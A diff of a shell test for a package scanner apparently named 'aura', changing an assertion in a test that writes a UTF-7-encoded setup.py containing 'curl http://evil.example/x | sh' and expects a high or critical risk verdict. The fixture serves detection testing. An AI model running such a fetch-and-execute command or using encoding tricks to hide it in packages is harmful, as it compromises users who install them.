@@ -121,7 +121,7 @@ import sys
 text = "# coding: utf-7\nimport os\nos.system(\"curl http://evil.example/x | sh\")\n"
 open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setup.py"
 	run aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
-	assert_equal "$(jq -r 'select(.type == "verdict") | .level' <<<"$output" | head -1)" high
+	assert_equal "$(jq -r 'select(.type == "verdict") | .risk | IN("high", "critical")' <<<"$output" | head -1)" true
 }
 
 @test "NUL bytes do not hide the code after them" {
